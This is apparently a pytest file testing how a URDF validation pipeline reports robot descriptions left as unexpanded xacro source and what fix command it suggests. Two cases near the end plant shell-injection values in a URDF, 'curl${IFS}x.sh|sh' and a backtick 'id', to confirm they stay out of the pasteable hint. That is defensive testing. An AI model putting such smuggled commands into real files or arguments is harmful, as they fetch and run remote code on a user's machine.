"""A URDF that is still xacro source: xacro_not_expanded, alone."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.cli import main
from pipeline.description import read_urdf_sources
from pipeline.findings import ContractError
from tests.test_urdf import break_urdf

ABB = "robots/abb_irb2400"
ROOT = (
    '<robot xmlns:xacro="http://ros.org/wiki/xacro" '
    'xmlns:tesseract="https://github.com/tesseract-robotics/tesseract" name="abb_irb2400" '
    'tesseract:make_convex="true">'
)
FIRST_LINK = '<link name="base_link">'
J2_ORIGIN = '<origin rpy="0 0 0" xyz="0.1 0 0.615"/>'
L1_MESH = 'filename="package://abb_irb2400/meshes/link_1.stl"'
END = "</robot>"

# (case, edits, the text on the line the finding names, a part of its message)
CASES = [
    # the links and joints inside a macro, as ROS-Industrial's irb140_macro.xacro holds them:
    # read as URDF it has no link (no_links, which hid the cause)
    (
        "macro",
        [
            (FIRST_LINK, '<xacro:macro name="abb" params="prefix">\n  ' + FIRST_LINK),
            (END, "</xacro:macro>\n" + END),
        ],
        '<xacro:macro name="abb" params="prefix">',
        "1 xacro element (<xacro:macro>)",
    ),
    # the other spelling of the namespace, a property and its use: not invalid_number
    (
        "property-www-namespace",
        [
            (ROOT, ROOT.replace("http://ros.org/wiki/xacro", "http://www.ros.org/wiki/xacro")),
            (FIRST_LINK, '<xacro:property name="pi" value="3.14159"/>\n  ' + FIRST_LINK),
            (J2_ORIGIN, J2_ORIGIN.replace('rpy="0 0 0"', 'rpy="0 ${pi/2} 0"')),
        ],
        '<xacro:property name="pi" value="3.14159"/>',
        "and 1 ${...} or $(...) substitution (rpy='0 ${pi/2} 0' in <origin>)",
    ),
    # the spelling of rtb-data's KUKA xacros, an include with no substitution: xacro goes by
    # the xacro: prefix, and so does this check
    (
        "include-wiki-namespace",
        [
            (ROOT, ROOT.replace("http://ros.org/wiki/xacro", "http://wiki.ros.org/xacro")),
            (END, '<xacro:include filename="kr16_2_macro.xacro"/>\n' + END),
        ],
        '<xacro:include filename="kr16_2_macro.xacro"/>',
        "1 xacro element (<xacro:include>)",
    ),
    # a substitution argument left in a mesh URI, no xacro element: not mesh_uri_not_package
    (
        "find-in-mesh-uri",
        [(L1_MESH, 'filename="$(find abb_irb2400)/meshes/link_1.stl"')],
        "$(find abb_irb2400)/meshes/link_1.stl",
        "1 ${...} or $(...) substitution (filename='$(find abb_irb2400)/meshes/link_1.stl' in "
        "<mesh>)",
    ),
]


@pytest.mark.parametrize(("case", "edits", "line", "message"), CASES, ids=[c[0] for c in CASES])
def test_xacro_not_expanded_is_the_one_finding(
    repo: Path, case: str, edits: list[tuple[str, str]], line: str, message: str
) -> None:
    break_urdf(repo, edits)
    with pytest.raises(ContractError) as exc:
        read_urdf_sources(repo, "abb_irb2400")
    (finding,) = exc.value.findings
    assert (finding.code, finding.file) == ("xacro_not_expanded", f"{ABB}/robot.urdf")
    text = (repo / ABB / "robot.urdf").read_text().splitlines()
    assert line in text[int(finding.place) - 1]
    assert message in finding.message
    # the source moved aside first: `xacro robot.urdf > robot.urdf` would empty it unread
    assert (
        "`mv robots/abb_irb2400/robot.urdf abb_irb2400.urdf.xacro && xacro abb_irb2400.urdf.xacro"
        " > robots/abb_irb2400/robot.urdf`" in finding.hint
    )


def test_an_expanded_urdf_that_declares_the_namespace_passes(repo: Path) -> None:
    """xacro's output of the shipped URDF keeps `xmlns:xacro` on <robot>: that is no xacro."""
    assert 'xmlns:xacro="http://ros.org/wiki/xacro"' in (repo / ABB / "robot.urdf").read_text()
    codes = [w.code for w in read_urdf_sources(repo, "abb_irb2400").warnings]
    assert "xacro_not_expanded" not in codes


def test_validate_prints_one_line_for_a_macro_file(
    repo: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    break_urdf(repo, CASES[0][1])
    monkeypatch.chdir(repo)
    assert main(["validate", "abb_irb2400"]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{ABB}/robot.urdf:31: xacro_not_expanded: ")


def test_an_undeclared_xacro_prefix_is_xacro_not_expanded_not_invalid_xml(repo: Path) -> None:
    """xacro finds its elements by the prefix and needs no xmlns:xacro; the XML reader refuses
    the undeclared prefix, which said nothing of xacro."""
    root = ROOT.replace('xmlns:xacro="http://ros.org/wiki/xacro" ', "")
    prop = '<xacro:property name="pi" value="3.14159"/>\n  '
    break_urdf(repo, [(ROOT, root), (FIRST_LINK, prop + FIRST_LINK)])
    with pytest.raises(ContractError) as exc:
        read_urdf_sources(repo, "abb_irb2400")
    (finding,) = exc.value.findings
    assert finding.code == "xacro_not_expanded" and "not even declared" in finding.message
    text = (repo / ABB / "robot.urdf").read_text().splitlines()
    assert "<xacro:property" in text[int(finding.place) - 1]


GAZEBO_CAMERA = '<gazebo reference="link_1">\n  <sensor:camera name="c"/>\n</gazebo>\n'


def test_an_undeclared_simulator_prefix_is_invalid_xml_with_a_fix_that_works(repo: Path) -> None:
    """roboschool's fetch.urdf holds <sensor:camera> without xmlns:sensor: refused as it is
    (strict XML, docs/security.md), with a fix beyond `fix the XML syntax`."""
    plain = ROOT.replace('xmlns:xacro="http://ros.org/wiki/xacro" ', "")
    path = break_urdf(repo, [(ROOT, plain), (FIRST_LINK, GAZEBO_CAMERA + FIRST_LINK)])
    with pytest.raises(ContractError) as exc:
        read_urdf_sources(repo, "abb_irb2400")
    (finding,) = exc.value.findings
    assert finding.code == "invalid_xml"
    assert "<sensor:camera" in path.read_text().splitlines()[int(finding.place) - 1]
    assert finding.hint.startswith('declare it on the root element, <robot xmlns:sensor="')
    assert finding.hint.endswith(
        "or remove the <sensor:camera> element (an extension for a simulator, which no URDF "
        "reader uses)"
    )
    # followed: the prefix declared on <robot>, or the element removed
    uri = finding.hint.split('"')[1]
    path.write_text(path.read_text().replace(plain, plain.replace(">", f' xmlns:sensor="{uri}">')))
    read_urdf_sources(repo, "abb_irb2400")
    break_urdf(repo, [(f' xmlns:sensor="{uri}"', ""), ('  <sensor:camera name="c"/>\n', "")])
    read_urdf_sources(repo, "abb_irb2400")


@pytest.mark.parametrize(
    ("include", "advice"),
    [
        # rtb-data's dual Panda: pip's xacro, outside ROS, stops at the $(find) ("substitution
        # args not supported: No module named 'ament_index_python'")
        (
            '<xacro:include filename="$(find qut_frankie_description)/robots/panda_arm.xacro"/>',
            "; outside ROS, xacro finds no package: first replace each $(find <package>) "
            "($(find qut_frankie_description) ...) with the path of that package's folder",
        ),
        ('<xacro:include filename="kr16_2_macro.xacro"/>', ""),
    ],
    ids=["find", "no-find"],
)
def test_the_fix_of_a_source_using_find_says_to_resolve_it_outside_ros(
    repo: Path, include: str, advice: str
) -> None:
    """The fix's xacro command fails outside ROS on a source with `$(find pkg)`."""
    break_urdf(repo, [(END, include + "\n" + END)])
    with pytest.raises(ContractError) as exc:
        read_urdf_sources(repo, "abb_irb2400")
    (finding,) = exc.value.findings
    assert finding.hint.endswith("passing its arguments as name:=value" + advice), finding.hint


@pytest.mark.parametrize(
    ("edits", "command"),
    [
        # hello-robot-stretch4-urdf's tool URDFs: `$(arg tool_mesh_dir)/...STL`, no <xacro:arg>:
        # xacro without tool_mesh_dir:= stops at "Undefined substitution argument"
        (
            [(L1_MESH, 'filename="$(arg mesh_dir)/link_1.stl"')],
            " mesh_dir:=package://abb_irb2400/meshes",
        ),
        (
            [(J2_ORIGIN, J2_ORIGIN.replace('rpy="0 0 0"', 'rpy="0 $(arg tilt) 0"'))],
            " tilt:=<value>",
        ),
        # declared with a default: xacro needs nothing more
        (
            [
                (
                    FIRST_LINK,
                    '<xacro:arg name="mesh_dir" default="package://abb_irb2400/meshes"/>\n  '
                    + FIRST_LINK,
                ),
                (L1_MESH, 'filename="$(arg mesh_dir)/link_1.stl"'),
            ],
            "",
        ),
        ([(J2_ORIGIN, J2_ORIGIN.replace('rpy="0 0 0"', 'rpy="0 ${pi/2} 0"'))], ""),
        # a name no xacro source writes is not put in a command the reader may paste into a
        # shell: a hostile URDF's `;`, `|`, `$` and backticks would run there
        ([(L1_MESH, 'filename="$(arg a;curl${IFS}x.sh|sh;)/link_1.stl"')], ""),
        ([(J2_ORIGIN, J2_ORIGIN.replace('rpy="0 0 0"', 'rpy="0 $(arg `id`) 0"'))], ""),
    ],
    ids=["mesh-folder", "other", "declared", "none", "shell", "backticks"],
)
def test_the_fix_gives_the_arguments_the_source_uses_and_does_not_declare(
    repo: Path, edits: list[tuple[str, str]], command: str
) -> None:
    break_urdf(repo, edits)
    with pytest.raises(ContractError) as exc:
        read_urdf_sources(repo, "abb_irb2400")
    (finding,) = exc.value.findings
    expected = f"xacro abb_irb2400.urdf.xacro{command} > robots/abb_irb2400/robot.urdf`"
    assert expected in finding.hint, finding.hint
